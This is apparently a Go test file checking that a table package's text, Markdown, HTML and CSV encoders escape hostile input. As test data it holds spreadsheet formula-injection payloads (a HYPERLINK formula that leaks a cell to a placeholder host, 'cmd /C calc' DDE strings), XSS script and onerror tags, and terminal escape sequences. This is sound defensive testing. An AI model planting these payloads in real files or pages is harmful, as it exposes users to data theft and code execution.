package table

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	tests := []struct{ in, want string }{
		{"gemm_kernel<float, 128>", "gemm_kernel<float, 128>"},
		{"ünïcode ✓ 核", "ünïcode ✓ 核"},
		{`back\slash`, `back\slash`},
		{"a\nb", `a\nb`},
		{"a\r\tb", `a\r\tb`},
		{"\x1b[2J\x1b[31mred", `\x1b[2J\x1b[31mred`},
		{"del\x7f", `del\x7f`},
		{"c1\u0085\u009b", `c1\u0085\u009b`},
		{"bidi\u202eevil\u2066", `bidi\u202eevil\u2066`},
		{"sep\u2028x", `sep\u2028x`},
		{"bad\xffutf8\xc3", `bad\xffutf8\xc3`},
		{"nul\x00", `nul\x00`},
		{"", ""},
	}
	for _, tc := range tests {
		if got := Escape(tc.in); got != tc.want {
			t.Errorf("Escape(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestEncodersEscape checks that a hostile string in a title, a header,
// a cell or a note cannot add a line to text or Markdown output, nor
// carry a terminal escape.
func TestEncodersEscape(t *testing.T) {
	evil := "k\n| forged | row |\nnote: \x1b[31mred\u202e"
	tb := &Table{Title: "T" + evil, Columns: []Column{{Name: "name" + evil}, {Name: "time", Unit: NS}}}
	tb.Add(evil, int64(1_000_000))
	tb.Notes = []string{"n" + evil}
	for name, enc := range map[string]Encoder{"text": Text, "markdown": Markdown} {
		var b bytes.Buffer
		if err := enc(&b, []*Table{tb}); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		lines := strings.Count(out, "\n")
		want := map[string]int{"text": 4, "markdown": 7}[name]
		if lines != want || strings.ContainsAny(out, "\x1b\u202e") {
			t.Errorf("%s: %d lines (want %d), output:\n%s", name, lines, want, out)
		}
	}
}

// FuzzEscape checks, for any string, that Escape's output holds no
// character it must escape and that text without such characters is
// left as it is.
func FuzzEscape(f *testing.F) {
	f.Add("plain")
	f.Add("a\nb\x1b[31m\u202e\xff")
	f.Fuzz(func(t *testing.T, s string) {
		got := Escape(s)
		for i, r := range got {
			if unsafeRune(r, utf8.RuneLen(r)) || (r == utf8.RuneError && !strings.HasPrefix(got[i:], "\uFFFD")) {
				t.Fatalf("Escape(%q) = %q keeps %U", s, got, r)
			}
		}
		if !utf8.ValidString(got) {
			t.Fatalf("Escape(%q) = %q is not valid UTF-8", s, got)
		}
		if strings.Count(got, "\n") != 0 {
			t.Fatalf("Escape(%q) holds a line break", s)
		}
	})
}

// TestCSVFormulaInjection is the case: texts from outside that a
// spreadsheet would run (=HYPERLINK, +, -, @, a leading tab or CR) are
// written with a leading quote in both CSV forms; numbers, negative ones
// included, and numeric texts stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://x/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "  =1+1"}
	tb := &Table{Name: "engines", Columns: []Column{{Name: "model"}, {Name: "version"}, {Name: "delta", Unit: "%"}}}
	for _, h := range hostile {
		tb.Rows = append(tb.Rows, []any{h, h, -3.5})
	}
	tb.Rows = append(tb.Rows, []any{"plain-model", "-1.5", -0.25})
	for _, form := range []struct {
		name  string
		write func(*bytes.Buffer) error
	}{
		{"tidy", func(b *bytes.Buffer) error { return TidyCSV(b, tb) }},
		{"long", func(b *bytes.Buffer) error { return CSV(b, []*Table{tb}) }},
	} {
		var b bytes.Buffer
		if err := form.write(&b); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", form.name, err)
		}
		for _, rec := range recs[1:] {
			for _, f := range rec {
				if f != "" && strings.ContainsRune("=+-@\t\r", rune(strings.TrimLeft(f, " ")[0])) {
					if _, err := strconv.ParseFloat(f, 64); err != nil {
						t.Errorf("%s: field %q would run as a formula", form.name, f)
					}
				}
			}
		}
		out := b.String()
		for _, want := range []string{"-3.5", "-0.25", "-1.5", `'=HYPERLINK(`, "plain-model"} {
			if !strings.Contains(out, want) && !strings.Contains(csvText(recs), want) {
				t.Errorf("%s: %q missing:\n%s", form.name, want, csvText(recs))
			}
		}
		if strings.Contains(csvText(recs), "'-3.5") || strings.Contains(csvText(recs), "'-1.5") {
			t.Errorf("%s: a number was quoted:\n%s", form.name, csvText(recs))
		}
	}
}

func csvText(recs [][]string) string {
	var b strings.Builder
	for _, r := range recs {
		b.WriteString(strings.Join(r, "\x1f") + "\n")
	}
	return b.String()
}

func FuzzNeutralise(f *testing.F) {
	for _, s := range []string{"=1", "-1", " @x", "model", "\t=", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := neutralise(s)
		if got != s && got != "'"+s {
			t.Fatalf("neutralise(%q) = %q", s, got)
		}
		if tt := strings.TrimLeft(got, " "); tt != "" && tt != "-" && strings.ContainsRune("=+-@\t\r", rune(tt[0])) {
			if _, err := strconv.ParseFloat(strings.TrimSpace(got), 64); err != nil {
				t.Fatalf("neutralise(%q) = %q still starts a formula", s, got)
			}
		}
	})
}

// TestMarkdownHTMLHostile: a name from outside cannot split a Markdown
// row, open an HTML tag in it, or leave the HTML encoder unescaped.
func TestMarkdownHTMLHostile(t *testing.T) {
	evil := `<script>alert(1)</script>|<img src=x onerror=alert(2)>`
	tb := &Table{Name: "k", Title: "<b>t</b>", Columns: []Column{{Name: "kernel"}, {Name: "slo"}}, Rows: [][]any{{evil, "p99<=500"}}}
	var md, h bytes.Buffer
	if err := Markdown(&md, []*Table{tb}); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"<script", "</script", "<img", "<b>"} {
		if strings.Contains(strings.ReplaceAll(md.String(), `\<`, ""), bad) {
			t.Errorf("markdown carries %q unescaped:\n%s", bad, md.String())
		}
	}
	if !strings.Contains(md.String(), "p99<=500") || strings.Count(md.String(), "\n| ") != 3 {
		t.Errorf("markdown:\n%s", md.String())
	}
	if err := HTML(&h, []*Table{tb}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(h.String(), "<script") || strings.Contains(h.String(), "<img") {
		t.Errorf("html carries a tag from the data:\n%s", h.String())
	}
}
